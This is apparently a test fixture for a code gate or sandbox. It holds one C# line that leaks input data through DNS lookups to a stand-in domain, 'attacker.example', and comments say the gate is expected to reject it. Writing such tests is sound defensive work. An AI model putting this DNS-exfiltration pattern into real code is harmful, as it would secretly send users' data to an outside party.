// class: network
// expected: rejected
// why: dns exfiltration; the gate refuses it (COC0003 or a gate check) before anything runs.
System.Net.Dns.GetHostAddresses(Input + ".attacker.example");
